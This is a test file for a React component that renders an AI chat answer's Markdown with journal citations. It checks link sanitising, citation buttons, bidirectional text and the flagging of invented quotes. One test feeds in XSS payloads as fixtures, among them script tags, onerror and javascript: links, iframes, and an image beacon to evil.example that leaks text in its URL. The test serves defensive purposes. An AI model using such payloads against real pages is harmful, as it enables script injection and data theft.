import { act } from "react";
import { describe, expect, it, vi } from "vitest";
import type { Source } from "#contract/chat/messages.ts";
import { render } from "#web/lib/testing.ts";
import AnswerMarkdown, { linkOf } from "./answer-markdown.tsx";

const source: Source = {
  number: 1,
  reflection_id: "01930000-0000-7000-8000-00000000000b",
  revision: 1,
  day: "2026-08-30",
  mood: null,
  title: "The night ward",
  quote: "I slept with the phone on the pillow, face up.",
  stands: "here",
};

const shown = (markdown: string, onCite = vi.fn(), misquoted: string[] = []) =>
  render(<AnswerMarkdown markdown={markdown} sources={[source]} misquoted={misquoted} onCite={onCite} />);

describe("a hostile answer", () => {
  const hostile = [
    '<script>alert(1)</script><img src="https://evil.example/x.png" onerror="alert(1)">',
    "![a picture](https://evil.example/pixel.png?words=secret)",
    "![](https://evil.example/empty.png)",
    "[click](javascript:alert(1)) and [this](java\tscript:alert(1)) and <javascript:alert(1)>",
    "[data](data:text/html,<script>alert(1)</script>)",
    '<iframe src="https://evil.example"></iframe><style>*{display:none}</style>',
    "[![inside](https://evil.example/in.png)](https://evil.example)",
    "![attachment](attachment:01930000-0000-7000-8000-00000000000b)",
    "<https://evil.example/auto>",
    "[ref]: https://evil.example/ref.png",
  ].join("\n\n");

  it("loads nothing, runs nothing, and shows each link with its host", async () => {
    const { page } = await shown(hostile);
    for (const tag of [
      "script",
      "img",
      "iframe",
      "style",
      "object",
      "video",
      "audio",
      "form",
      "input",
      "link",
    ])
      expect(page.querySelector(tag), tag).toBeNull();
    for (const each of page.querySelectorAll("*"))
      for (const name of each.getAttributeNames()) expect(name).not.toMatch(/^on|^src|^style/);
    const links = [...page.querySelectorAll("a")];
    expect(links.length).toBeGreaterThan(0);
    for (const link of links) {
      expect(link.protocol).toBe("https:");
      expect(link.rel).toContain("noopener");
      expect(link.nextElementSibling?.textContent).toBe(" (evil.example)");
    }
    expect(page.textContent).toContain("<script>alert(1)</script>");
  });
});

describe("a link in an answer", () => {
  it.each([
    ["https://example.org/a", { kind: "out", href: "https://example.org/a", shown: "example.org" }],
    ["//example.org", { kind: "out", href: "//example.org", shown: "example.org" }],
    [
      "mailto:mum@example.org?body=x",
      { kind: "out", href: "mailto:mum@example.org?body=x", shown: "mum@example.org" },
    ],
    ["/settings", { kind: "none" }],
    ["javascript:alert(1)", { kind: "none" }],
    [`reflection:${source.reflection_id}`, { kind: "reflection", id: source.reflection_id }],
  ])("%s", (href, expected) => expect(linkOf(href)).toEqual(expected));
});

describe("an answer's Markdown", () => {
  it("shows lists, code, quotes, headings and tables", async () => {
    const { page } = await shown(
      "## Three\n\n1. one\n2. **two**\n\n- [x] done\n\n```\n[1] code\n```\n\n> quoted\n\n| a | b |\n|---|---|\n| 1 | 2 |",
    );
    expect(page.querySelector("h4")?.textContent).toBe("Three");
    expect(page.querySelectorAll("ol > li")).toHaveLength(2);
    expect(page.querySelector("pre code")?.textContent).toBe("[1] code");
    expect(page.querySelectorAll("td")).toHaveLength(2);
    expect(page.querySelector("blockquote")?.className).toBe("");
  });

  it("makes a button of each citation, and a quote only of words that its source has", async () => {
    const onCite = vi.fn();
    const { page } = await shown(
      "You slept “with the phone on the pillow” [1], **often** [4].\n\n> face up\n\n> in peace",
      onCite,
    );
    const [cite, ...others] = page.querySelectorAll("button");
    expect(others).toEqual([]);
    expect(cite?.getAttribute("aria-label")).toBe("Source 1: The night ward");
    await act(async () => cite?.click());
    expect(onCite).toHaveBeenCalledWith(1);
    expect([...page.querySelectorAll(".own-words")].map(({ textContent }) => textContent)).toEqual([
      "“with the phone on the pillow”",
      "face up",
    ]);
    expect(page.textContent).not.toContain("[4]");
  });
});

it("runs each list, quote and table in the direction of its own letters, which nothing inside hides", async () => {
  const { page } = await shown("- שלום\n\n1. שלום\n\n> שלום\n\n| א | ב |\n| --- | --- |\n| ג | ד |");
  const blocks = [...page.querySelectorAll("ul, ol, blockquote, table")];
  expect(blocks.map((block) => block.getAttribute("dir"))).toEqual(["auto", "auto", "auto", "auto"]);
  expect(blocks.flatMap((block) => [...block.querySelectorAll("[dir]")])).toEqual([]);
});

it("keeps a quote in another script from turning the sentence around it", async () => {
  const quote = "مشيت على طول النهر";
  const quoted = [{ ...source, quote }];
  const isApart = async (markdown: string) => {
    const { page } = await render(
      <AnswerMarkdown markdown={markdown} sources={quoted} misquoted={[]} onCite={vi.fn()} />,
    );
    return page.querySelector(".own-words")?.tagName === "BDI";
  };
  expect(await isApart(`“${quote}” is what you wrote [1].`)).toBe(true);
  // A quote on its own runs as its letters do.
  expect(await isApart(`“${quote}” [1]`)).toBe(false);
});

it("marks quotes that no source contains", async () => {
  const { page } = await shown(
    "You slept “with the phone on the pillow” [1] and wrote “I am a failure” [1].\n\n> I hate the ward. [1]",
    vi.fn(),
    ["I am a failure", "I hate the ward."],
  );
  expect([...page.querySelectorAll(".chat-answer__invented")].map((mark) => mark.textContent)).toEqual([
    " not in your journal",
    " not in your journal",
  ]);
  expect(page.querySelector(".own-words")?.textContent).toBe("“with the phone on the pillow”");
});
